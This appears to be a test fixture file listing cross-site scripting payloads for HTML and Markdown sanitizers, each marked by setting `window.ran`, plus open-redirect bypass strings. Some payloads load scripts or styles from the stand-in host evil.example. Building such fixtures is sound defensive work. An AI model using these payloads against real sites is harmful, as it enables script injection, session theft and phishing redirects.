/** Each of them sets `window.ran` where it runs. In pieces, as people find them in lists of such texts; each is a paragraph of its own. */
const run = "window.ran=1";
export const scripts = [
  `<script>${run}</script>`, `<ScRiPt src=//evil.example/x.js></sCrIpT>`, `<img src=x onerror=${run}>`, `<img src=x onerror="${run}"//`, `<svg onload=${run}>`, `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<body onload=${run}>`, `<iframe src="javascript:parent.${run}"></iframe>`, `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`, `<embed src="javascript:${run}">`, `<math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`, `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}></video>`, `<input autofocus onfocus=${run}>`, `<form action="javascript:${run}"><button>go</button></form>`, `<base href="//evil.example/">`, `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<link rel=stylesheet href="//evil.example/x.css">`, `<style>@import "//evil.example/x.css";</style>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<template><script>${run}</script></template>`,
  `[a](javascript:${run})`, `[b](JaVaScRiPt:${run})`, `[c](javascript&colon;${run})`, `[d](java\nscript:${run})`, `[e](&#106;avascript:${run})`, `[f](data:text/html,<script>${run}</script>)`, `[g](vbscript:${run})`, `[h](<javascript:${run}>)`,
  `[i](\u0001javascript:${run})`, `[j]( javascript:${run})`, `[k](//evil.example)`, `[l](blob:${run})`, `![m](javascript:${run})`, `![n](x"onerror="${run})`, `![o](https://evil.example/x.png)`, `![p](data:image/svg+xml,<svg/onload=${run}>)`,
  `<javascript:${run}>`, `<https://evil.example/"onmouseover="${run}>`, `[q](https://evil.example "t\\"onmouseover=${run}")`, `[r]: javascript:${run}\n\n[r]`, `\`<img src=x onerror=${run}>\``, "```html\n<img src=x onerror=window.ran=1>\n```",
  "```\"><script>window.ran=1</script>\ncode\n```", `@"><img src=x onerror=${run}>`, `[s](/files/"onerror="${run})`, `https://evil.example/'onclick='${run}`, `| <img src=x onerror=${run}> |\n|---|\n| <script>${run}</script> |`,
  `</textarea><script>${run}</script>`, `</title><script>${run}</script>`, `--><script>${run}</script>`, `]]><script>${run}</script>`, `{{constructor.constructor('${run}')()}}`, `\${${run}}`, `\u2028<script>${run}</script>`,
];

/** Addresses elsewhere, dressed up as paths of ours. */
export const elsewhere = [
  "https://evil.example/", "//evil.example", "///evil.example", "////evil.example", "/\\evil.example", "\\\\evil.example", "/\t/evil.example", "\t//evil.example", "/\n/evil.example", "/.//evil.example", "/..//evil.example",
  "/%2e%2e//evil.example", "/./\\evil.example", "https:evil.example", "http:///evil.example", "javascript:alert(1)", "data:text/html,x", "@evil.example", "evil.example", ".evil.example", "/\u0000/evil.example", "/sign-in/..//evil.example", "%2f%2fevil.example",
];
